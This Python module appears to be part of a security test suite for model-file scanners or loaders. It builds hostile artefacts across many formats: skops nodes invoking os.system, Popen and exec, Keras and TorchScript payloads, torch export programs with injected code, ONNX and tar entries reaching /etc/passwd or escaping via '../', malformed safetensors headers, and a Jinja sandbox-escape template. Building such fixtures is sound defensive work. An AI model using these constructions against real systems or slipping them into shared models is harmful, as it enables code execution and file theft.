"""Attacks in formats other than pickles and zips of torch: arrays, skops, programs, Keras, ONNX, tars, packed files."""

import bz2
import gzip
import io
import json
import lzma
import struct
import tarfile
import warnings
import zlib
from collections.abc import Callable
from functools import cache
from typing import Any

from .artefact import Artefact
from .assembly import call, stream
from .gadgets import mkdir, nested, script
from .graphs import hdf5_elsewhere, keras, keras_layer, lambda_layer, old_keras, onnx
from .zips import members_of, zipped

Node = dict[str, Any]


def _array(canary: str, header: str = "{'descr': '|O', 'fortran_order': False, 'shape': (1,)}") -> bytes:
    head = header.encode().ljust(118) + b"\n"
    return b"\x93NUMPY\x01\0" + struct.pack("<H", len(head)) + head + nested(canary)


@cache
def estimator() -> bytes:
    import skops.io
    from sklearn.linear_model import LogisticRegression

    return skops.io.dumps(LogisticRegression().fit([[0.0], [1.0]], [0, 1]))


def skops_with(node: Node) -> bytes:
    found = members_of(estimator())
    schema = json.loads(found["schema.json"])
    schema["content"]["content"]["C"] = node
    return zipped(found | {"schema.json": json.dumps(schema).encode()})


def node(loader: str, path: str, **fields: object) -> Node:
    module, _, name = path.rpartition(".")
    return {"__class__": name, "__module__": module, "__loader__": loader, "__id__": 7, **fields}


_NOTHING = node("TupleNode", "builtins.tuple", content=[])


@cache
def program() -> bytes:
    import torch

    model = torch.nn.Sequential(torch.nn.Linear(4, 8), torch.nn.ReLU(), torch.nn.Linear(8, 3))
    buffer = io.BytesIO()
    shapes = ({0: torch.export.Dim("batch", min=1, max=256)},)
    torch.export.save(torch.export.export(model.eval(), (torch.randn(5, 4),), dynamic_shapes=shapes), buffer)
    return buffer.getvalue()


def program_with(change: Callable[[Node], object]) -> bytes:
    found = members_of(program())
    path = next(name for name in found if name.endswith("models/model.json"))
    document = json.loads(found[path])
    change(document)
    return zipped(found | {path: json.dumps(document).encode()})


def _size(document: Node) -> Node:
    values = document["graph_module"]["graph"]["tensor_values"]
    return next(value["sizes"][0]["as_expr"] for name, value in values.items() if name == "input")


def _node(document: Node) -> Node:
    return document["graph_module"]["graph"]["nodes"][0]


def _program(name: str, change: Callable[[str], Callable[[Node], object]], loader: str | None = None) -> Artefact:
    return Artefact(f"program {name}", "export", lambda c: program_with(change(c)), ending=".pt2", loader=loader)


def _sized(canary: str) -> Callable[[Node], object]:
    def change(document: Node) -> None:
        _size(document)["expr_str"] = f"{script(canary)} or {_size(document)['expr_str']}"

    return change


def torchscript(source: str) -> bytes:
    import torch

    class Model(torch.nn.Module):
        def forward(self, x: torch.Tensor) -> torch.Tensor:
            return x

    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        module = torch.jit.script(Model())
        module.define(source)
        buffer = io.BytesIO()
        torch.jit.save(module, buffer)
    return buffer.getvalue()


def _saves(canary: str) -> bytes:
    return torchscript(f"def __call__(self, x: Tensor) -> Tensor:\n    torch.save(x, {canary!r})\n    return x\n")


def _maps(canary: str) -> bytes:
    return torchscript(f"def steal(self) -> Tensor:\n    return torch.from_file({canary!r}, True, 8)\n")


def tarred(members: dict[str, bytes], link: str | None = None, mode: str = "w") -> bytes:
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode=mode) as archive:  # type: ignore[call-overload]
        if link:
            entry = tarfile.TarInfo("model")
            entry.type, entry.linkname = tarfile.SYMTYPE, link
            archive.addfile(entry)
        for name, content in members.items():
            entry = tarfile.TarInfo(name)
            entry.size = len(content)
            archive.addfile(entry, io.BytesIO(content))
    return buffer.getvalue()


def safetensors(header: str, data: int = 8) -> bytes:
    return struct.pack("<Q", len(header)) + header.encode() + bytes(data)


def gguf(template: str) -> bytes:
    def counted(value: str) -> bytes:
        return struct.pack("<Q", len(value)) + value.encode()

    entry = counted("tokenizer.chat_template") + struct.pack("<I", 8) + counted(template)
    return b"GGUF" + struct.pack("<IQQ", 3, 0, 1) + entry


def _of(family: str, ending: str, needs: tuple[str, ...] = ()) -> Callable[..., Artefact]:
    def artefact(name: str, make: Callable[[str], bytes], loader: str | None = None) -> Artefact:
        return Artefact(f"{family} {name}", family, make, ending=ending, loader=loader, needs=needs)

    return artefact


_numpy, _joblib, _skops = _of("numpy", ".npy"), _of("packed", ".joblib"), _of("skops", ".skops")
_keras, _hdf5, _onnx = (
    _of("keras", ".keras", ("h5py",)),
    _of("keras", ".h5", ("h5py",)),
    _of("onnx", ".onnx", ("onnx",)),
)
_tar, _safe, _script, _file = (
    _of("tar", ".tar"),
    _of("safetensors", ".safetensors"),
    _of("torchscript", ".pt"),
    _of("file", ".bin"),
)
_JINJA = "{{ ''.__class__.__mro__[1].__subclasses__() }}"
_OVERLAP = (
    '{"a":{"dtype":"F32","shape":[2],"data_offsets":[0,8]},"b":{"dtype":"F32","shape":[2],"data_offsets":[4,12]}}'
)
_TWICE = '{"a":{"dtype":"F32","shape":[2],"data_offsets":[0,8]},"a":{"dtype":"I64","shape":[1],"data_offsets":[0,8]}}'


def _wrapped(canary: str) -> bytes:
    """joblib's wrapper of an array of objects, behind which it unpickles again."""
    wrapper = call("joblib.numpy_pickle:NumpyArrayWrapper", None, (1,), "C", call("numpy:dtype", "O"))
    return stream(wrapper)[:-1] + mkdir(canary) + b"."


HOSTILE_FORMATS: tuple[Artefact, ...] = (
    _numpy("objects", _array, "numpy"),
    _numpy(
        "header that calls", lambda c: _array(c, f"{{'descr': {script(c)}, 'fortran_order': False, 'shape': (1,)}}")
    ),
    _numpy(
        "header that announces too much",
        lambda c: _array(c, "{'descr': '<f8', 'fortran_order': False, 'shape': (9999999999,)}"),
    ),
    Artefact("npz objects", "numpy", lambda c: zipped({"a.npy": _array(c)}), ending=".npz", loader="numpy"),
    Artefact("npz with a pickle", "numpy", lambda c: zipped({"a.npy": nested(c)}), ending=".npz"),
    _joblib("by zlib", lambda c: zlib.compress(nested(c)), "joblib"),
    _joblib("by gzip", lambda c: gzip.compress(nested(c)), "joblib"),
    _joblib("by bz2", lambda c: bz2.compress(nested(c)), "joblib"),
    _joblib("by xz", lambda c: lzma.compress(nested(c)), "joblib"),
    _joblib("by lzma", lambda c: lzma.compress(nested(c), lzma.FORMAT_ALONE), "joblib"),
    _joblib("as a wrapped array", _wrapped, "joblib"),
    Artefact("packed for pandas", "packed", lambda c: gzip.compress(nested(c)), ending=".pkl.gz", loader="pandas"),
    _skops("a type of the system", lambda c: skops_with(node("TypeNode", "os.system"))),
    _skops("a function of the system", lambda c: skops_with(node("FunctionNode", "os.system"))),
    _skops("an object of the system", lambda c: skops_with(node("ObjectNode", "subprocess.Popen", content=_NOTHING))),
    _skops(
        "a reduced call", lambda c: skops_with(node("ReduceNode", "builtins.exec", reduce=_NOTHING, content=_NOTHING))
    ),
    _skops("a getter", lambda c: skops_with(node("OperatorFuncNode", "operator.methodcaller", attrs=_NOTHING))),
    _skops("a pickle inside", lambda c: zipped(members_of(estimator()) | {"x.pkl": nested(c)})),
    _program("size", _sized, "export"),
    _program("guard", lambda c: lambda d: d.update(guards_code=[f"{script(c)} is None"]), "export"),
    _program("operator of hub", lambda c: lambda d: _node(d).update(target="torch.hub.load")),
    _program("operator of the system", lambda c: lambda d: _node(d).update(target="torch.serialization.os.system")),
    _program("name of a node", lambda c: lambda d: _node(d).update(name=f"a = {script(c)}")),
    _script("saves a file", _saves),
    _script("maps a file", _maps),
    _keras("lambda", lambda c: keras(lambda_layer(c)), "keras"),
    _keras("foreign module", lambda c: keras(keras_layer("Popen", "subprocess", args=["id"]))),
    _keras(
        "function of a module",
        lambda c: keras(
            keras_layer(
                "Activation",
                activation={"module": "os", "class_name": "function", "config": "system", "registered_name": "system"},
            )
        ),
    ),
    _keras(
        "get_file",
        lambda c: keras(
            keras_layer(
                "Activation",
                activation={
                    "module": "keras.utils",
                    "class_name": "function",
                    "config": "get_file",
                    "registered_name": "get_file",
                },
            )
        ),
    ),
    _keras("pickle as an asset", lambda c: keras(keras_layer("Dense", units=1), **{"assets/a.pkl": nested(c)})),
    _keras("asset that leads out", lambda c: keras(keras_layer("Dense", units=1), **{"assets/../../evil.py": b"x"})),
    _hdf5("lambda of old", old_keras),
    _hdf5("links to other files", hdf5_elsewhere),
    _onnx("external data above", lambda c: onnx(location="../../../../etc/passwd")),
    _onnx("external data at the root", lambda c: onnx(location="/etc/passwd")),
    _onnx("operator in python", lambda c: onnx(domain="ai.onnx.contrib", op="PyOp")),
    _onnx("operator of somebody", lambda c: onnx(domain="evil.corp", op="Run")),
    _tar("of a pickle", lambda c: tarred({"pickle": nested(c)})),
    _tar("that leads out", lambda c: tarred({"../../evil.py": b"import os"})),
    _tar("with a link", lambda c: tarred({"model/keys": b"x"}, link="/etc")),
    _tar("packed", lambda c: tarred({"pickle": nested(c)}, mode="w:gz")),
    _safe("overlapping tensors", lambda c: safetensors(_OVERLAP, 12)),
    _safe("a key twice", lambda c: safetensors(_TWICE)),
    _safe(
        "a tensor beyond the end", lambda c: safetensors('{"a":{"dtype":"F32","shape":[99],"data_offsets":[0,396]}}')
    ),
    _safe(
        "a pickle behind", lambda c: safetensors('{"a":{"dtype":"F32","shape":[2],"data_offsets":[0,8]}}') + nested(c)
    ),
    _safe("a header of a terabyte", lambda c: struct.pack("<Q", 1 << 40) + b'{"a":{}}'),
    _file("library", lambda c: b"\x7fELF\2\1\1" + bytes(57)),
    _file("program for windows", lambda c: b"MZ" + bytes(62)),
    _file("script", lambda c: f"#!/usr/bin/env python3\n{script(c)}\n".encode()),
    _file("source", lambda c: f"import os\n{script(c)}\n".encode()),
    _file("json with code", lambda c: json.dumps({"__reduce__": ["os.system", script(c)]}).encode()),
    _file("template", lambda c: gguf(_JINJA)),
)
